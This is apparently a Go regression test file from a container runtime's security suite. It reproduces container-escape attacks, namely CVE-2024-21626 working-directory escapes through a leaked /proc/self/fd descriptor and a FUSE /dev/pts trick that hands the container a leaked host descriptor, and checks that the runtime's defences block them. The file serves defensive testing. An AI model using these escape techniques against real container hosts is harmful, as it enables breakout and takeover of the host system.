package attack

import (
	"os"
	"os/exec"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"rt/tests/silentfs"
)

// Descriptors of the runtime, and the runtime itself, as ways out.

func init() { add(attacksOnDescriptors) }

var attacksOnDescriptors = []attack{
	{
		name: "CVE-2024-21626", what: "a working directory that leads through a descriptor which the caller leaked",
		try: func(s *stage) string {
			s.Config.at("process")["cwd"] = "/proc/self/fd/60"
			return s.leaking(60, s.dir, "run", "--bundle", s.bundle)
		},
		without: []way{{edit: "resolve 0 process.cwd: (open|check)"}},
	},
	{
		name: "CVE-2024-21626", what: "the same through a link of the image",
		try: func(s *stage) string {
			s.Config.at("process")["cwd"] = "/innocent"
			s.link("/proc/self/fd/60", "innocent")
			return s.leaking(60, s.dir, "run", "--bundle", s.bundle)
		},
		without: []way{{edit: "resolve 0 process.cwd: (open|check)"}},
	},
	{
		name: "exec", what: "a /dev/pts of FUSE says that the new terminal is a descriptor which the caller leaked",
		try: func(s *stage) string {
			const leaked = 60
			pid := s.up("sleep", "60")
			if pid == 0 {
				s.t.Fatal("no container")
			}
			files := s.mountFUSE(&silentfs.Files{Ioctl: func(request uint32) uint32 {
				if request == unix.TIOCGPTPEER {
					return leaked
				}
				return 0
			}}, pid, "/dev/pts")
			defer files.End()
			d, err := os.Open(s.victim)
			must(s.t, err)
			defer d.Close()
			s.rtWith(func(cmd *exec.Cmd) {
				cmd.ExtraFiles = append(make([]*os.File, leaked-3), d)
			}, "exec", "--tty", "--user", "1000", s.id, "true")
			var st unix.Stat_t
			must(s.t, unix.Stat(s.victim, &st))
			if st.Uid != 0 {
				return "the container's user owns a directory of the host's"
			}
			return ""
		},
		without: []way{{patches: []patch{
			{
				"libcontainer/plan/terminal.go", "if c.joins != joinsNone {\n		c.openKnownMaster",
				"if c.joins != joinsNone && !OFF {\n		c.openKnownMaster",
			},
		}}},
	},
}

// leaking runs a command with a directory of the host's open as descriptor fd, and says whether the container has found
// it as its working directory.
func (s *stage) leaking(fd int, dir string, args ...string) string {
	s.Config.args("sh", "-c", "ls -a; ls -a victim")
	s.save()
	d, err := os.Open(dir)
	must(s.t, err)
	defer d.Close()
	out, _ := s.rtWith(func(cmd *exec.Cmd) {
		for len(cmd.ExtraFiles) < fd-3 {
			cmd.ExtraFiles = append(cmd.ExtraFiles, nil)
		}
		cmd.ExtraFiles = append(cmd.ExtraFiles, d)
	}, append(args, s.newID())...)
	if strings.Contains(out, "folder") {
		return "the host's directory: " + strings.Join(strings.Fields(out), " ")
	}
	return ""
}

// within waits for something to become true while the attack continues.
func within(d time.Duration, is func() bool) bool {
	for end := time.Now().Add(d); time.Now().Before(end); time.Sleep(2 * time.Millisecond) {
		if is() {
			return true
		}
	}
	return false
}

// succeeds waits for what an attack brings about. Without the defence it comes, however busy the machine is; with it
// there is nothing to wait for, and what would come after this second is noticed in other runs.
func (s *stage) succeeds(is func() bool) bool { return within(s.patience(time.Second, patience()), is) }

// defends waits for what a defence brings about, which is the reverse of succeeds.
func (s *stage) defends(is func() bool) bool {
	return within(s.patience(patience(), 2*time.Second), is)
}

// patience is one of two times: with all defences, and without one.
func (s *stage) patience(with, without time.Duration) time.Duration {
	if s.way != nil {
		return without
	}
	return with
}

// makeFIFO makes what an edited plan waits at, and releaseFIFO lets it continue as soon as it waits, or is over.
func makeFIFO(path string) error { return unix.Mkfifo(path, 0o600) }

func releaseFIFO(path string, over <-chan struct{}) {
	within(20*time.Second, func() bool {
		fd, err := unix.Open(path, unix.O_WRONLY|unix.O_NONBLOCK, 0)
		if err == nil {
			_ = unix.Close(fd)
			return true
		}
		select {
		case <-over:
			return true
		default:
			return false
		}
	})
}

// host runs a program of the host's, and returns what it prints.
func (s *stage) host(name string, args ...string) string {
	out, _ := exec.Command(name, args...).CombinedOutput()
	return string(out)
}

func proc(pid int, name string) string { return "/proc/" + strconv.Itoa(pid) + "/" + name }
